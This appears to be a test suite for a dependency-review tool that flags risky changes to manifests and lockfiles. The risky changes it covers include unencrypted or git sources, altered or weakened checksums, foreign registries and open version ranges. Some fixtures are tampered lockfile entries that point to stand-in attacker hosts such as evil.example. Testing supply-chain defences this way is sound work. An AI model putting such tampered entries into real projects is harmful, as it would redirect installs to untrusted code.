  { name: 'npm: github:', ...npmSource('github:a/b'), finds: SOURCE('minor') },
  { name: 'npm: an archive', ...npmSource('https://example.com/b-1.0.0.tgz'), finds: SOURCE('minor') },
  { name: 'npm: unencrypted archive', ...npmSource('http://example.com/b-1.0.0.tgz'), finds: SOURCE('major') },
  { name: 'npm: unencrypted git', ...npmSource('git://github.com/a/b.git'), finds: SOURCE('major') },
  { name: 'npm: a path outside the repository', ...npmSource('file:../../lib'), finds: SOURCE('minor') },
  { name: 'clean: a path inside', base: { 'apps/a/package.json': manifest({}) }, head: { 'apps/a/package.json': manifest({ dep: 'file:../lib' }) }, finds: [] },
  ...['workspace:*', 'npm:other@^1.0.0', 'link:../x', 'catalog:', '^1.0.0', '>=1 <2', 'next', 'portal:./x', '1.x || 2.x', 'patch:a@npm%3A1#./a.patch'].map(
    spec => ({ name: `clean: ${spec}`, ...npmSource(spec), finds: [] }),
  ),
  {
    name: 'clean: an old git dependency that moves',
    base: { 'package.json': json({ name: 's', dependencies: { a: '1', dep: 'github:a/b' } }) },
    head: { 'package.json': json({ name: 's', dependencies: { a: '1' }, devDependencies: { dep: 'github:a/b' } }) },
    finds: [],
  },
  {
    name: 'clean: repository and homepage',
    base: { 'package.json': manifest({}) },
    head: { 'package.json': manifest({}, { repository: { type: 'git', url: 'git+https://github.com/a/b.git' }, homepage: 'https://a.example' }) },
    finds: [],
  },
  {
    name: 'bare, clean: repository and homepage',
    base: { 'package.json': manifest({ a: '1', b: '1' }) },
    head: {
      'package.json': manifest({ a: '1', b: '1' }, { repository: { type: 'git', url: 'git+https://github.com/a/b.git' }, homepage: 'https://a.example' }),
    },
    how: { bare: true, context: 0 },
    finds: [],
  },
  {
    name: 'bare: git without its section in view',
    base: { 'package.json': manifest({ a: '1', b: '1', c: '1', d: '1' }) },
    head: { 'package.json': manifest({ a: '1', b: '1', c: '1', d: '1', z: 'git+https://example.com/z.git' }) },
    how: { bare: true },
    finds: SOURCE('minor', 'package.json', 9),
    partial: ['package.json'],
  },
  {
    name: 'requirements: git',
    ...lineIn('requirements.txt', 'django==5.0\n', 'git+https://github.com/a/b.git@main#egg=b'),
    finds: SOURCE('minor', 'requirements.txt', 2),
  },
  {
    name: 'requirements: name @ URL',
    ...lineIn('requirements-dev.txt', 'django==5.0\n', 'b @ https://example.com/b.zip'),
    finds: SOURCE('minor', 'requirements-dev.txt', 2),
  },
  {
    name: 'requirements: an unencrypted index',
    ...lineIn('requirements.txt', 'django==5.0\n', '--extra-index-url http://pypi.internal/simple'),
    finds: SOURCE('major', 'requirements.txt', 2),
  },
  {
    name: 'clean: requirements with hashes and markers',
    ...lineIn('requirements.txt', 'django==5.0\n', 'requests[socks]==2.31.0 ; python_version >= "3.8" --hash=sha256:aaaa'),
    finds: [],
  },
  {
    name: 'pyproject: a direct reference',
    base: { 'pyproject.toml': pyproject([]) },
    head: { 'pyproject.toml': pyproject([`b @ git+https://github.com/a/b@${COMMIT}`]) },
    finds: SOURCE('note', 'pyproject.toml', 5),
  },
  {
    name: 'Poetry: a git table',
    ...lineIn('pyproject.toml', poetry('^5.0'), 'b = { git = "https://github.com/a/b.git", branch = "main" }'),
    finds: SOURCE('minor', 'pyproject.toml', 8),
  },
  {
    name: 'Cargo: git',
    ...lineIn('Cargo.toml', cargo(''), 'b = { git = "https://github.com/a/b", branch = "main" }'),
    finds: SOURCE('minor', 'Cargo.toml', 6),
  },
  {
    name: 'Cargo: git below a table of its own',
    ...lineIn('Cargo.toml', cargo('\n[dependencies.b]\nfeatures = ["x"]\n'), 'git = "https://github.com/a/b"'),
    finds: SOURCE('minor', 'Cargo.toml', 9),
  },
  { name: 'clean: a crate of the workspace', ...lineIn('crates/a/Cargo.toml', cargo(''), 'b = { path = "../b" }'), finds: [] },
  {
    name: 'bare: Cargo git in a hunk',
    ...lineIn('Cargo.toml', cargo('a = "1"\nc = "1"\nd = "1"\ne = "1"\n'), 'z = { git = "https://github.com/a/z" }'),
    how: { bare: true },
    finds: SOURCE('minor', 'Cargo.toml', 10),
    partial: ['Cargo.toml'],
  },
  {
    name: 'Go: a replacement by a fork',
    ...lineIn('go.mod', goMod(''), 'replace example.com/lib => github.com/fork/lib v1.0.0'),
    finds: SOURCE('note', 'go.mod', 7),
  },
  {
    name: 'Go: a replacement outside the repository',
    ...lineIn('go.mod', goMod(''), 'replace example.com/lib => ../lib'),
    finds: SOURCE('minor', 'go.mod', 7),
  },
  { name: 'clean: Go: a replacement inside the repository', ...lineIn('svc/go.mod', goMod(''), 'replace example.com/lib => ../lib'), finds: [] },
  { name: 'Gemfile: github', ...lineIn('Gemfile', gemfile(), 'gem "a", github: "o/a", branch: "main"'), finds: SOURCE('minor', 'Gemfile', 4) },
  { name: 'Gemfile: an unencrypted source', ...lineIn('Gemfile', gemfile(), 'source "http://gems.example.com"'), finds: SOURCE('major', 'Gemfile', 4) },
  {
    name: 'Composer: a vcs repository',
    base: { 'composer.json': json({ name: 'a/b' }) },
    head: { 'composer.json': json({ name: 'a/b', repositories: [{ type: 'vcs', url: 'https://github.com/o/r' }] }) },
    finds: SOURCE('minor', 'composer.json', 6),
  },
  {
    name: 'Mix: git',
    ...lineIn('mix.exs', '  defp deps do\n', '      {:a, git: "https://github.com/o/a.git", tag: "1.0"},'),
    finds: SOURCE('minor', 'mix.exs', 2),
  },
]);

const lockPair = (before: object, after: object): Pick<Case, 'base' | 'head'> => ({
  base: {
    'package-lock.json': npmLock(
      { a: '^1.0.0' },
      { 'node_modules/a': packageOf('a', '1.0.0'), 'node_modules/b': packageOf('b', '2.0.0'), 'node_modules/dep': before },
    ),
  },
  head: {
    'package-lock.json': npmLock(
      { a: '^1.0.0' },
      { 'node_modules/a': packageOf('a', '1.0.0'), 'node_modules/b': packageOf('b', '2.0.0'), 'node_modules/dep': after },
    ),
  },
});
const DEP = packageOf('dep', '3.0.0');
const LOCK = (severity: string, rule: string, line: number, path = 'package-lock.json'): string => `${severity} lockfile-${rule} ${path}:${line}`;
const both = (entry: Case): readonly Case[] => [entry, { ...entry, name: `bare: ${entry.name}`, how: { bare: true } }];
run('entries of lockfiles', [
  ...both({
    name: 'another checksum for the same version',
    ...lockPair(DEP, { ...DEP, integrity: 'sha512-ZZZZ==' }),
    finds: [LOCK('blocker', 'integrity', 27)],
  }),
  ...both({
    name: 'another host',
    ...lockPair(DEP, packageOf('dep', '3.0.1', { resolved: 'https://evil.example/dep-3.0.1.tgz' })),
    finds: [LOCK('major', 'foreign-registry', 26)],
  }),
  ...both({
    name: 'another host and the same checksum is minor',
    ...lockPair(DEP, { ...DEP, resolved: 'https://mirror.example/dep-3.0.0.tgz' }),
    finds: [LOCK('minor', 'foreign-registry', 26)],
  }),
  ...both({
    name: 'a transitive git source',
    ...lockPair(DEP, { version: '3.0.1', resolved: `git+ssh://git@github.com/o/dep.git#${COMMIT}` }),
    finds: [LOCK('minor', 'foreign-registry', 26)],
  }),
  {
    name: 'unencrypted',
    ...lockPair(DEP, packageOf('dep', '3.0.1', { resolved: 'http://registry.npmjs.org/dep/-/dep-3.0.1.tgz' })),
    finds: [LOCK('major', 'foreign-registry', 26)],
  },
  ...both({ name: 'a checksum taken out', ...lockPair(DEP, { ...DEP, integrity: undefined }), finds: [LOCK('major', 'integrity', 27)] }),
  ...both({ name: 'a weaker checksum', ...lockPair(DEP, { ...DEP, integrity: 'sha1-AAAA=' }), finds: [LOCK('major', 'integrity', 27)] }),
  { name: 'clean: a stronger checksum', ...lockPair({ ...DEP, integrity: 'sha1-AAAA=' }, DEP), finds: [] },
  { name: 'clean: a new version', ...lockPair(DEP, packageOf('dep', '3.0.1')), finds: [] },
  {
    name: 'clean: a whole move to another registry',
    base: { 'package-lock.json': npmLock({}, { 'node_modules/a': packageOf('a', '1.0.0'), 'node_modules/b': packageOf('b', '1.0.0') }) },
    head: {
      'package-lock.json': npmLock({}, { 'node_modules/a': packageOf('a', '1.0.0'), 'node_modules/b': packageOf('b', '1.0.0') }).replaceAll(
        NPM,
        'https://npm.example.com',
      ),
    },
    finds: [],
  },
  {
    name: 'clean: a git source that the manifest states',
    ...(() => {
      const pair = lockPair(DEP, { version: '3.0.1', resolved: `git+ssh://git@github.com/o/dep.git#${COMMIT}` });
      return {
        base: { ...pair.base, 'package.json': manifest({ a: '^1.0.0' }) },
        head: {
          ...pair.head,
          'package.json': manifest({ a: '^1.0.0' }, { description: 'x', optionalDependencies: {} }).replace('"a"', '"dep": "workspace:*",\n    "a"'),
        },
      };
    })(),
    finds: ['major manifest-without-lockfile package.json:7', LOCK('minor', 'foreign-registry', 26)],
  },
  {
    name: 'a new lockfile with one stray host',
    base: {},
    head: {
      'package-lock.json': npmLock(
        {},
        {
          'node_modules/a': packageOf('a', '1.0.0'),
          'node_modules/b': packageOf('b', '1.0.0'),
          'node_modules/c': packageOf('c', '1.0.0', { resolved: 'https://evil.example/c.tgz' }),
        },
      ),
    },
    finds: [LOCK('minor', 'foreign-registry', 24)],
  },
  {
    name: 'clean: a new lockfile',
    base: {},
    head: { 'package-lock.json': npmLock({}, { 'node_modules/a': packageOf('a', '1.0.0'), 'node_modules/b': packageOf('b', '1.0.0') }) },
    finds: [],
  },
  {
    name: 'bare, clean: one new entry next to entries of a private registry',
    base: { 'package-lock.json': npmLock({}, { 'node_modules/a': packageOf('a', '1.0.0', { resolved: 'https://npm.example.com/a.tgz' }) }) },
    head: {
      'package-lock.json': npmLock(
        {},
        { 'node_modules/a': packageOf('a', '1.0.0', { resolved: 'https://npm.example.com/a.tgz' }), 'node_modules/b': packageOf('b', '1.0.0') },
      ),
    },
    how: { bare: true },
    finds: [],
  },
  ...both({
    name: 'yarn 1: another checksum',
    base: { 'yarn.lock': YARN1 },
    head: { 'yarn.lock': YARN1.replace('sha512-BBBB', 'sha512-CCCC') },
    finds: [LOCK('blocker', 'integrity', 12, 'yarn.lock')],
  }),
  ...both({
    name: 'yarn 1: another host',
    base: { 'yarn.lock': YARN1 },
    head: { 'yarn.lock': YARN1.replace('https://registry.yarnpkg.com/lodash', 'https://evil.example/lodash').replace('4.17.21"', '4.17.22"') },
    finds: [LOCK('major', 'foreign-registry', 11, 'yarn.lock')],
  }),
  {
    name: 'clean: yarn 1 between the two names of the public registry',
    base: { 'yarn.lock': YARN1 },
    head: { 'yarn.lock': YARN1.replace('registry.yarnpkg.com/lodash', 'registry.npmjs.org/lodash') },
    finds: [],
  },
  {
    name: 'clean: yarn 2+ with another cache key',
    base: { 'yarn.lock': BERRY('^4.17.0') },
    head: { 'yarn.lock': BERRY('^4.17.0').replaceAll('10c0', '11').replace('/aaaa', '/bbbb') },
    finds: [],
  },
  ...both({
    name: 'pnpm: another checksum',
    base: { 'pnpm-lock.yaml': PNPM('^1.0.0') },
    head: { 'pnpm-lock.yaml': PNPM('^1.0.0').replace('sha512-AAAA', 'sha512-BBBB') },
    finds: [LOCK('blocker', 'integrity', 27, 'pnpm-lock.yaml')],
  }),
  ...both({
    name: 'bun: another checksum',
    base: { 'bun.lock': BUN },
    head: { 'bun.lock': BUN.replace('sha512-AAAA', 'sha512-BBBB') },
    finds: [LOCK('blocker', 'integrity', 12, 'bun.lock')],
  }),
  ...both({
    name: 'Cargo: another checksum',
    base: { 'Cargo.lock': CARGO_LOCK },
    head: { 'Cargo.lock': CARGO_LOCK.replace('aaaa', 'bbbb') },
    finds: [LOCK('blocker', 'integrity', 7, 'Cargo.lock')],
  }),
  ...both({
    name: 'go.sum: another sum',
    base: { 'go.sum': GO_SUM },
    head: { 'go.sum': GO_SUM.replace('h1:AAAA', 'h1:CCCC') },
    finds: [LOCK('blocker', 'integrity', 1, 'go.sum')],
  }),
  ...both({
    name: 'poetry: another hash of one file',
    base: { 'poetry.lock': 'files = [\n    {file = "a-1.0-py3-none-any.whl", hash = "sha256:aaaa"},\n]\n' },
    head: { 'poetry.lock': 'files = [\n    {file = "a-1.0-py3-none-any.whl", hash = "sha256:bbbb"},\n    {file = "a-1.0.tar.gz", hash = "sha256:cccc"},\n]\n' },
    finds: [LOCK('blocker', 'integrity', 2, 'poetry.lock')],
  }),
  {
    name: 'clean: poetry: a local file that is built again',
    base: {
      'poetry.lock':
        '[[package]]\nname = "a"\nfiles = [\n    {file = "a-1.0-py3-none-any.whl", hash = "sha256:aaaa"},\n]\n\n[package.source]\ntype = "file"\nurl = "dist/a.whl"\n',
    },
    head: {
      'poetry.lock':
        '[[package]]\nname = "a"\nfiles = [\n    {file = "a-1.0-py3-none-any.whl", hash = "sha256:bbbb"},\n]\n\n[package.source]\ntype = "file"\nurl = "dist/a.whl"\n',
    },
    finds: [],
  },
  {
    name: 'clean: yarn 2+: an edited patch',
    base: { 'yarn.lock': BERRY('^4.17.0').replace('"lodash@npm:^4.17.0":', '"lodash@patch:lodash@npm%3A4.17.21#./a.patch":') },
    head: {
      'yarn.lock': BERRY('^4.17.0').replace('"lodash@npm:^4.17.0":', '"lodash@patch:lodash@npm%3A4.17.21#./a.patch":').replace('10c0/aaaa', '10c0/bbbb'),
    },
    finds: [],
  },
  {
    name: 'clean: npm: a local archive that is packed again',
    ...lockPair({ ...DEP, resolved: 'file:dep.tgz' }, { ...DEP, resolved: 'file:dep.tgz', integrity: 'sha512-ZZZZ==' }),
    finds: [],
  },
  ...both({
    name: 'yarn 2+: another checksum',
    base: { 'yarn.lock': BERRY('^4.17.0') },
    head: { 'yarn.lock': BERRY('^4.17.0').replace('10c0/aaaa', '10c0/bbbb') },
    finds: [LOCK('blocker', 'integrity', 10, 'yarn.lock')],
  }),
  {
    name: 'uv: a package of another index',
    base: { 'uv.lock': UV },
    head: { 'uv.lock': `${UV}\n${UV.replace('requests', 'httpx').replace('pypi.org', 'pypi.evil.example')}` },
    finds: [LOCK('major', 'foreign-registry', 9, 'uv.lock')],
  },
]);

run('open ranges', [
  {
    name: 'npm: * of a registry package',
    base: { 'package.json': manifest({}), 'package-lock.json': npmLock({}, {}) },
    head: { 'package.json': manifest({ express: '*' }), 'package-lock.json': npmLock({ express: '*' }, EXPRESS) },
    finds: ['minor unbounded-range package.json:5'],
  },
  {
    name: 'npm: >= is a note',
    base: { 'package.json': manifest({}), 'package-lock.json': npmLock({}, {}) },
    head: { 'package.json': manifest({ express: '>=4' }), 'package-lock.json': npmLock({ express: '>=4' }, EXPRESS) },
    finds: ['note unbounded-range package.json:5'],
  },
  {
    name: 'npm: latest',
    base: { 'package.json': manifest({}) },
    head: { 'package.json': manifest({ express: 'latest' }) },
    finds: ['minor unbounded-range package.json:5'],
  },
  {
    name: 'clean: * of a workspace sibling',
    base: { 'package.json': manifest({}), 'package-lock.json': npmLock({}, {}) },
    head: {
      'package.json': manifest({ lib: '*' }),
      'package-lock.json': npmLock({ lib: '*' }, { 'node_modules/lib': { resolved: 'packages/lib', link: true } }),
    },
    finds: [],
  },
  {
    name: 'clean: a peer dependency',
    base: { 'package.json': manifest({}) },
    head: { 'package.json': manifest({}, { peerDependencies: { react: '>=17' } }) },
    finds: [],
  },
  { name: 'Cargo: *', ...lineIn('Cargo.toml', cargo(''), 'rand = "*"'), finds: ['minor unbounded-range Cargo.toml:6'] },
  {
    name: 'clean: Composer extensions',
    base: { 'composer.json': json({ require: {} }) },
    head: { 'composer.json': json({ require: { php: '>=8.1', 'ext-json': '*' } }) },
    finds: [],
  },
]);

run('bare diffs', [
  {
    name: 'a changed manifest without a lockfile in the diff is partial',
    base: { 'package.json': manifest({ a: '1.0.0' }) },
    head: { 'package.json': manifest({ a: '1.1.0' }) },
    how: { bare: true },
    finds: [],
    partial: ['package.json'],
  },
  {
    name: 'a manifest and its lockfile',
    base: NPM_BASE,
    head: {
      'package.json': manifest({ express: '^5.0.0' }),
      'package-lock.json': npmLock({ express: '^5.0.0' }, { 'node_modules/express': packageOf('express', '5.0.1') }),
    },
    how: { bare: true },
    finds: [],
  },
  {
    name: 'a version alone',
    base: { 'package.json': manifest({ a: '1' }) },
    head: { 'package.json': manifest({ a: '1' }).replace('1.0.0', '1.0.1') },
    how: { bare: true },
    finds: [],
  },
  { name: 'a script alone, no context', base: withScripts({}), head: withScripts({ lint: 'eslint .' }), how: { bare: true, context: 0 }, finds: [] },
  {
    name: 'go.mod in a hunk',
    base: { 'go.mod': goMod('\ta.example/b v1.0.0\n') },
    head: { 'go.mod': goMod('\ta.example/b v1.1.0\n') },
    how: { bare: true, context: 0 },
    finds: [],
    partial: ['go.mod'],
  },
  {
    name: 'a new manifest is whole in the diff',
    base: {},
    head: { 'package.json': manifest({ a: 'github:o/a' }) },
    how: { bare: true },
    finds: SOURCE('minor'),
    partial: ['package.json'],
  },
]);

test(`${verifies('SPEC-1')} the declaration is well formed`, () => {
  expect(specialist.key).toMatch(/^[a-z][a-z0-9_]{1,31}$/);
  expect(specialist.routingHint.length).toBeLessThanOrEqual(200);
  expect(new Set(RULES.map(rule => rule.id)).size).toBe(RULES.length);
  for (const rule of RULES) for (const text of [rule.why, rule.fix, rule.bad, rule.good, rule.limits]) expect(text.length).toBeGreaterThan(10);
  expect(specialist.review?.appliesTo('node_modules/a/package.json')).toBe(false);
  expect(specialist.review?.appliesTo('src/main.ts')).toBe(false);
  expect(specialist.review?.appliesTo('apps/web/package.json')).toBe(true);
});

const PATHS = [
  'package.json',
  'package-lock.json',
  'yarn.lock',
  'pnpm-lock.yaml',
  'bun.lock',
  'Cargo.toml',
  'Cargo.lock',
  'pyproject.toml',
  'uv.lock',
  'poetry.lock',
  'Pipfile',
  'Pipfile.lock',
  'go.mod',
  'go.sum',
  'Gemfile',
  'Gemfile.lock',
  'composer.json',
  'composer.lock',
  'a.csproj',
  'packages.lock.json',
  'mix.exs',
  'mix.lock',
  'pubspec.yaml',
  'pubspec.lock',
  'requirements.txt',
  'pnpm-workspace.yaml',
];
const SAMPLES = [
  ...Object.values(NPM_BASE),
  PNPM('^1'),
  YARN1,
  BERRY('^1'),
  BUN,
  CARGO_LOCK,
  cargo('a = "1"\n'),
  pyproject(['a']),
  UV,
  POETRY,
  GO_SUM,
  goMod('\ta.b/c v1.0.0\n'),
  GEM_LOCK,
];
const piece = fc.oneof(
  fc.string(),
  fc.constantFrom(...SAMPLES.flatMap(sample => sample.split('\n'))),
  fc.constantFrom('{', '}', '[', ']', '"', ':', ',', '__proto__', '"constructor": {', '[[a]]', '- ', '\\', '\uFEFF', '\r'),
);
const content = fc.oneof(
  fc.array(piece, { maxLength: 30 }).map(lines => lines.join('\n')),
  fc.constantFrom(...SAMPLES),
  fc.json(),
);
const tree = fc.dictionary(fc.constantFrom(...PATHS), content, { maxKeys: 6 });

test(`${verifies('SPEC-6')} any content is judged without a failure, and every finding has a rule and a place`, async () => {
  const severities = ['blocker', 'major', 'minor', 'note'];
  await fc.assert(
    fc.asyncProperty(tree, tree, fc.boolean(), fc.integer({ min: 0, max: 3 }), async (base, head, bare, context) => {
      const { findings } = await review(base, head, { bare, context });
      for (const finding of findings) {
        const rule = RULES.find(row => row.id === finding.rule);
        expect(rule).toBeDefined();
        expect(severities.indexOf(finding.severity)).toBeGreaterThanOrEqual(severities.indexOf(rule?.severity ?? ''));
        expect(finding.path).not.toBe('');
        expect(finding.line).toBeGreaterThanOrEqual(0);
      }
    }),
    { numRuns: 400 },
  );
});

/** A file whose one added line or lines are the text; the case is about reading, so it needs no real diff. */
const added = (path: string, text: string): DiffFile => {
  const lines = text.split('\n').map((line, index): DiffLine => ({ kind: 'added', old: null, new: index + 1, text: line }));
  return { ...fileOf(path, '', '', 0), hunks: [{ oldStart: 0, oldLines: 0, newStart: 1, newLines: lines.length, lines }] };
};

test(`${verifies('SPEC-6')} hostile nesting and long lines come to an end`, async () => {
  const steps = Array.from({ length: 300 }, (_, indent) => `${' '.repeat(indent)}a:`).join('\n');
  const spaced = Array.from({ length: 300 }, () => `a${' '.repeat(900)}!`).join('\n');
  const texts = [
    `{"dependencies":${'['.repeat(50_000)}`,
    `{"a":"${'\\"'.repeat(50_000)}`,
    `a = ${'['.repeat(50_000)}`,
    '"'.repeat(50_000),
    '\n'.repeat(50_000),
    steps,
    spaced,
  ];
  for (const text of texts) {
    for (const path of PATHS) {
      const file = added(path, text);
      const readers = { readHead: () => Promise.resolve(text), readBase: () => Promise.resolve('{}') };
      for (const some of [{}, readers]) await specialist.review?.check?.({ files: [file], signal: { aborted: false }, ...some });
    }
  }
}, 60_000);

test(`${verifies('REV-14')} a lockfile above the limit leaves its manifest partial`, async () => {
  const huge = `${NPM_BASE['package-lock.json']}${' '.repeat(32_000_001)}`;
  const { findings, partial } = await review(
    { ...NPM_BASE, 'package-lock.json': huge },
    { 'package.json': manifest({ express: '^5.0.0' }), 'package-lock.json': huge },
  );
  expect(findings).toEqual([]);
  expect(partial[0]?.reason).toContain('package-lock.json has more than');
});

test(`${verifies('SPEC-6')} an aborted check stops with what it has`, async () => {
  const files = [fileOf('package.json', manifest({}), manifest({ a: 'github:o/a' }), 3)];
  expect(await specialist.review?.check?.({ files, signal: { aborted: true } })).toEqual({ findings: [], partial: [] });
});

describe('catalogs of a pnpm workspace', () => {
  const workspace = (range: string) => `packages:\n  - 'packages/*'\ncatalog:\n  a: ${range}\n  unused: ${range}\ncatalogs:\n  old:\n    b: ${range}\n`;
  const lock = (range: string) =>
    `lockfileVersion: '9.0'\n\ncatalogs:\n  default:\n    a:\n      specifier: ${range}\n      version: 1.0.1\n  old:\n    b:\n      specifier: ${range}\n      version: 1.0.1\n\nimporters:\n\n  .:\n    dependencies:\n      a:\n        specifier: 'catalog:'\n        version: 1.0.1\n\npackages:\n`;
  const rulesOf = async (base: Tree, head: Tree) => (await review(base, head)).findings.map(({ rule, path, line }) => `${rule} ${path} ${line}`);
  const before = { 'pnpm-workspace.yaml': workspace('^1.0.0'), 'pnpm-lock.yaml': lock('^1.0.0') };

  test('a range that the lockfile records otherwise is drift', async () => {
    const after = { ...before, 'pnpm-workspace.yaml': workspace('^1.1.0') };
    expect(await rulesOf(before, after)).toEqual(['dependencies/manifest-without-lockfile pnpm-workspace.yaml 4']);
    const { findings } = await review(before, after);
    expect(findings[0]?.message).toContain('a is recorded there as ^1.0.0, b is recorded there as ^1.0.0');
    expect(findings[0]?.message).not.toContain('unused');
  });
  test('a range that the lockfile follows, and one that nobody uses, are none', async () => {
    expect(await rulesOf(before, { 'pnpm-workspace.yaml': workspace('^1.1.0'), 'pnpm-lock.yaml': lock('^1.1.0') })).toEqual([]);
    expect(await rulesOf(before, { ...before, 'pnpm-workspace.yaml': workspace('^1.0.0').replace('unused: ^1.0.0', 'unused: ^2.0.0') })).toEqual([]);
  });
});

test('a manifest full of remarks has 200 findings and says how many there are', async () => {
  const dependencies = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`p${index}`, 'latest']));
  const { findings, partial } = await review({}, { 'package.json': JSON.stringify({ dependencies }, null, 2) });
  expect(findings).toHaveLength(200);
  expect(partial).toEqual([{ path: 'package.json', reason: '300 remarks; the first 200 are listed' }]);
});
